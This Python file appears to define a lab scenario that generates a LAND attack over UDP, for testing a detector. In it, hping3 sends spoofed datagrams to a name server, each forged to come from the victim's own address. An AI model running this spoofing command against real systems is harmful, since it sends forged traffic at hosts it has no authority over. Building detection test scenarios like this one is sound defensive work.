"""LAND by UDP, from the victim's own address and other ports."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, names = net.inside("attacker"), net.names()
    net.everyday()
    with net.attack(
        "land",
        by=attacker,
        victims=[names],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"udp and src host {names.ip} and dst host {names.ip}",
    ):
        net.tool(attacker, *f"hping3 -q --udp -p 53 -a {names.ip} -d 40 -i u100000 -c 50 {names.ip}".split())
    net.quiet(2)


SCENARIO = Scenario(
    name="land-udp",
    about="hping3 sends a name server datagrams from its own address, ten a second.",
    detectors=("land",),
    tools={"hping3": "hping3"},
    run=run,
)
